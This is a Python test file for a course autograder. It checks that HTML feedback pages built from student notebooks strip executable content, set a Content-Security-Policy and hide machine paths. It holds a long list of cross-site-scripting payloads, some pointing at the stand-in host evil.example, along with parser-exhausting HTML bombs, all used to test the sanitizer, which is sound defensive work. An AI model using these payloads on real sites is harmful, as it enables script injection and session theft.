"""A feedback page made from hostile output and text holds nothing that a browser would run."""

import base64
import hashlib
import re
import sys
import time
from pathlib import Path

import nbgrader
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from traitlets.config import Config

from autograder.feedback_page import FeedbackExporter
from autograder.pages.machine_paths import without_folders
from autograder.pages.safe_html import clean, clean_latex, is_still
from course.kit.feedback import RESULT_MIME
from tests.feedback_pages import page_of

EXECUTED = {"script", "iframe", "object", "embed", "frame", "frameset", "applet", "base", "meta", "link", "form", "svg"}
ADDRESSES = ("href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href", "ping")

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    '<div style="background:u\\72l(https://evil.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</pre></div></body></html><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    r"$\href{javascript:alert(1)}{x}$",
    r"<p>$\hre&#102;{javascript:alert(1)}{x}$ &#92;href{javascript:alert(1)}{x} &bsol;href{javascript:alert(1)}{x}</p>",
    r"$\require{html}\def\x{\href{javascript:alert(1)}}\x{y}$",
]


def shows(*data, **metadata):
    return new_code_cell("show()", outputs=[new_output("display_data", bundle, metadata=metadata) for bundle in data])


def assert_nothing_runs(page: str) -> None:
    soup = BeautifulSoup(page, "html.parser")
    body = soup.find("body")
    assert not body.find_all(EXECUTED)
    for element in body.find_all(True):
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            assert not name.lower().startswith("on"), element
            assert name not in ("srcdoc", "style") or not re.search(r"url|expression|import|\\", value, re.I), element
            if name in ADDRESSES:
                address = re.sub(r"[\x00-\x20]", "", value).lower()
                assert re.match(r"(https?://|mailto:|#|data:image/|[\w./-]*\Z)", address), element
    # MathJax leaves these alone.
    for element in body.find_all(["pre", "code"]):
        element.decompose()
    assert not re.search(r"\\(href|require)", body.get_text())


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml"])
def test_hostile_output_does_not_run(payload, mime):
    assert_nothing_runs(page_of(shows({mime: payload})))


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_does_not_run(payload):
    said = new_output("error", ename=payload, evalue=payload, traceback=[payload, f"\x1b[31m{payload}\x1b[0m"])
    printed = new_output("stream", name="stdout", text=payload)
    code = new_code_cell(payload, outputs=[printed, said])
    assert_nothing_runs(page_of(new_markdown_cell(payload), new_raw_cell(payload), code))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_comment_does_not_run(payload):
    about = {"grade": True, "solution": True, "grade_id": "answer", "points": 1, "score": 0, "comment": payload}
    assert_nothing_runs(page_of(new_markdown_cell("answer", metadata={"nbgrader": about})))


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "text/vnd.mermaid",
        "application/xhtml+xml",
        "application/pdf",
        RESULT_MIME,
    ],
)
def test_forms_of_output_that_run_are_left_out(mime):
    page = page_of(shows({mime: "alert(1)", "text/plain": "a plain form"}))
    assert_nothing_runs(page)
    assert "a plain form" in page
    assert "alert(1)" not in page


def test_output_cannot_get_a_frame_of_its_own():
    page = page_of(shows({"text/html": "<p>shown</p>"}, **{"text/html": {"isolated": True}}))
    assert_nothing_runs(page)
    assert "<p>shown</p>" in page


@pytest.mark.parametrize("mime", ["image/png", "image/jpeg"])
def test_the_size_of_a_picture_cannot_carry_an_attribute(mime):
    size = {"width": "1 onerror=alert(1)", "height": "1><script>alert(1)</script>", "alt": '"><script>'}
    page = page_of(shows({mime: 'AAAA"><script>alert(1)</script>'}, **{mime: size}))
    assert_nothing_runs(page)


def test_an_attachment_cannot_carry_a_script():
    cell = new_markdown_cell("![x](attachment:a.png)")
    cell.attachments = {"a.png": {'image/png;base64,AA" onerror="alert(1)': "AAAA", "text/html": "<script>"}}
    assert_nothing_runs(page_of(cell))


def test_metadata_of_a_cell_cannot_carry_a_script():
    cell = new_code_cell("1", metadata={"tags": ['"><script>alert(1)</script>'], "magics_language": "<script>"})
    assert_nothing_runs(page_of(cell))


def test_the_state_of_widgets_is_left_out():
    notebook_page = FeedbackExporter(template_name="classic")
    notebook = new_notebook(metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"x": "</script>"}}})
    assert "widget-state" not in notebook_page.from_notebook_node(notebook)[0].split("<body")[1]


@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 20_000, "<b>" * 20_000, "<b></i>" * 20_000, "<b><div>" * 3_000, f"<a {'x ' * 50_000}>", "<" * 100_000],
)
def test_a_page_that_is_a_bomb_is_shown_as_text(bomb):
    began = time.process_time()
    assert_nothing_runs(f"<body>{clean(bomb + HOSTILE[0])}</body>")
    assert time.process_time() - began < 5


# The page's own defence


def policy(page):
    element = BeautifulSoup(page, "html.parser").find("meta", {"http-equiv": "Content-Security-Policy"})
    return dict(rule.split(" ", 1) for rule in element["content"].split("; "))


def test_the_page_forbids_scripts_written_into_it():
    rules = policy(page_of())
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert "'unsafe-inline'" not in rules["script-src"]


def test_the_policy_comes_before_anything_that_it_is_about():
    head = BeautifulSoup(page_of(), "html.parser").find("head")
    assert head.find(True).get("http-equiv") == "Content-Security-Policy"


def test_mathjax_may_run():
    page = page_of()
    (address,) = (
        script["src"] for script in BeautifulSoup(page, "html.parser").find_all("script") if script.get("src")
    )
    places = [place for place in policy(page)["script-src"].split() if not place.startswith("'")]
    assert any(address.startswith(place) for place in places)


def test_a_templates_own_script_may_run():
    page = FeedbackExporter(template_name="classic").from_notebook_node(new_notebook())[0]
    scripts = [s.text for s in BeautifulSoup(page, "html.parser").find_all("script") if s.get("type") == "module"]
    for script in scripts:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy(page)["script-src"]
    assert scripts


# What stays


@pytest.mark.parametrize(
    "text",
    [
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<div role="status" style="background:#eaf2fa;border-left:6px solid #12395b;padding:.5em .9em;">ok</div>',
        '<a href="https://example.org/x?a=1&amp;b=2">x</a>',
        '<img alt="a plot" src="data:image/png;base64,iVBORw0KGgo=">',
        "<details open><summary>more</summary>x</details>",
        "1 &lt; 2 &amp; $a &lt; b$",
    ],
)
def test_honest_html_stays_as_it_is(text):
    assert clean(text) == text


def test_honest_markdown_stays():
    page = page_of(
        new_markdown_cell("# Title\n\n`a < b` and $x<y$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n    if a < b: pass")
    )
    for piece in ('<h1 id="Title">', "<code>a &lt; b</code>", "$x&lt;y$", "<td>1</td>", "if a &lt; b: pass"):
        assert piece in page


def test_a_picture_keeps_its_size_and_its_description():
    page = page_of(shows({"image/png": "iVBORw0KGgo="}, **{"image/png": {"width": 30, "alt": "a plot"}}))
    image = BeautifulSoup(page, "html.parser").find("img")
    assert (image["src"], image["width"], image["alt"]) == ("data:image/png;base64,iVBORw0KGgo=", "30", "a plot")


def test_a_still_drawing_is_shown_as_a_picture():
    assert is_still('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')
    page = page_of(shows({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'}))
    assert 'src="data:image/svg+xml;base64,' in page


def test_other_latex_stays():
    assert clean_latex(r"\frac{1}{2} \hrefs \text{x}") == r"\frac{1}{2} \hrefs \text{x}"


# Places


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("File /opt/course/.venv/lib/python3.11/site-packages/torch/nn/functional.py:12", "File …/functional.py:12"),
        ("File ~/grading/autograder/judging/referee.py:3, in run", "File …/referee.py:3, in run"),
        ('  File "/usr/lib/python3.11/ast.py", line 50', '  File "…/ast.py", line 50'),
        ("https://example.org/a/b.html and a/b and 1/2/3", "https://example.org/a/b.html and a/b and 1/2/3"),
    ],
)
def test_files_in_a_traceback_have_no_folders(line, shown):
    assert without_folders(line) == shown


def test_a_page_names_no_folder_of_the_machine():
    place = str(Path(nbgrader.__file__).parent)
    said = new_output("error", ename="E", evalue="", traceback=[f"File {place}/api.py:3"])
    printed = new_output("stream", name="stdout", text=f"{place}/utils.py")
    shown = new_output("display_data", {"text/html": f"<b>{place}/auth.py</b>"})
    body = page_of(new_code_cell("x", outputs=[printed, said, shown])).split("<body")[1]
    assert place not in body
    assert sys.prefix not in body


def test_nbgrader_takes_the_exporter_from_its_configuration():
    config = Config()
    config.GenerateFeedback.exporter_class = FeedbackExporter
    assert GenerateFeedback(config=config).exporter_class is FeedbackExporter
